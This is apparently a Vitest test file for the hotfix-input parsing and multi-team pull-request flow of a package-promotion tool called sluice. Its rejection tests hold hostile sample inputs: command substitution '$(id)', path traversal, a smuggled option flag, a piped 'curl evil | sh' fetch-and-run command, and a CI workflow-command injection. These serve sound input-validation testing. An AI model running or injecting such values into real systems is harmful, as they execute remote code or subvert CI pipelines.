import { afterAll, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { hotfixByInputs, readHotfixInputs } from '../../src/flows/hotfix-inputs.ts';
import { promote } from '../../src/flows/promote.ts';
import { openLocalForge } from '../../src/forge/local.ts';
import { answerFile, startServer } from '../fixtures/server.ts';
import { type Files, makeRepository, sha256 } from '../fixtures/upstreamRepository.ts';
import { makeSite, siteAgain } from './site.ts';

const ID = 'test-9-x86_64-main';

const form = (o: Record<string, string>) =>
  Object.fromEntries(
    Object.entries({ PACKAGES: 'alpha', TEAMS: 'infra', TIER: 'unstable', REASON: 'exploited', ...o }).map(
      ([key, value]) => [`SLUICE_INPUT_${key}`, value],
    ),
  );

it('a form is words: packages and teams with spaces or commas between, whatever else a shell would do with them', () => {
  expect(readHotfixInputs(form({ PACKAGES: ' alpha  CVE-2026-1,beta\nalpha', TEAMS: 'infra, web' }))).toEqual(
    {
      named: ['alpha', 'CVE-2026-1', 'beta'],
      teams: ['infra', 'web'],
      to: 'unstable',
      reason: 'exploited',
    },
  );
  expect(readHotfixInputs(form({ TEAMS: 'all' })).teams).toBeUndefined();
});

it.each([
  [{ PACKAGES: '' }, /SLUICE_INPUT_PACKAGES is empty/],
  [{ REASON: '  ' }, /SLUICE_INPUT_REASON is empty/],
  [{ PACKAGES: 'alpha --override-hold=x' }, /no package/],
  [{ TEAMS: '$(id)' }, /no team/],
  [{ TEAMS: '../x' }, /no team/],
  [{ TEAMS: 'all web' }, /all stands alone/],
])('refused: %j', (fields, message) => {
  expect(() => readHotfixInputs(form(fields as Record<string, string>))).toThrow(
    expect.objectContaining({ code: 'USAGE', message: expect.stringMatching(message) }),
  );
});

const cleaning: (() => unknown)[] = [];
afterAll(async () => {
  for (const clean of cleaning.reverse()) await clean();
});

/** Two teams with alpha 1 in unstable, and alpha 2 in live. */
const site = siteAgain(async (dir) => {
  let files: Files = makeRepository({ builds: [{ name: 'alpha' }] });
  const server = await startServer((request, response) => {
    const bytes = files.get((request.url ?? '').slice(1));
    answerFile(request, response, bytes, `"${bytes ? sha256(bytes).slice(0, 16) : ''}"`);
  });
  cleaning.push(() => server.close());
  const web = {
    apiVersion: 'sluice/v1',
    kind: 'Team',
    team: 'web',
    repositories: [ID],
    tiers: { unstable: { from: 'live', wait: { seen: '9d' } } },
  };
  const made = await makeSite({
    dir,
    upstreams: { [ID]: { baseurl: [server.url] } },
    files: { 'policies/teams/web.yaml': stringify(web) },
    team: { tiers: { unstable: { from: 'live', wait: { seen: '9d' } } } },
  });
  await made.merge(await made.sync());
  made.days(10);
  for (const team of ['infra', 'web']) await made.merge(await promoted(made, team));
  files = makeRepository({ builds: [{ name: 'alpha', version: '2.0' }] });
  await made.sync();
  return made;
});

async function promoted(
  made: Awaited<ReturnType<typeof makeSite>>,
  team: string,
): Promise<number | undefined> {
  const [done] = await promote(made.world(), {
    packages: [],
    team,
    to: 'unstable',
    how: 'propose',
    all: false,
  });
  return done?.pull?.number;
}

const COMMON = { overrideHolds: undefined, sync: false, how: 'propose', all: false } as const;

it('several teams have a pull request each; where one of them cannot, none has', async () => {
  const given = await site();
  const ask = (o: Record<string, string>) => hotfixByInputs({ ...given.world(), env: form(o) }, COMMON);
  const open = async () => {
    const forge = await openLocalForge(`${given.repoDir}.git`);
    return (await forge.list({ state: 'open' })).map(({ branch }) => branch).sort();
  };
  const before = await open();
  await expect(ask({ TEAMS: 'infra nobody' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  await expect(ask({ PACKAGES: 'alpha; curl evil | sh' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  await expect(ask({ REASON: '::set-output name=x::y [skip ci]' })).rejects.toMatchObject({
    code: 'MALFORMED',
  });
  expect(await open()).toEqual(before);
  await ask({ TEAMS: 'infra web' });
  const teams = (await open()).map((branch) => branch.split('/').slice(0, 3).join('/'));
  expect(teams).toEqual(['sluice/hotfix/infra', 'sluice/hotfix/web']);
});
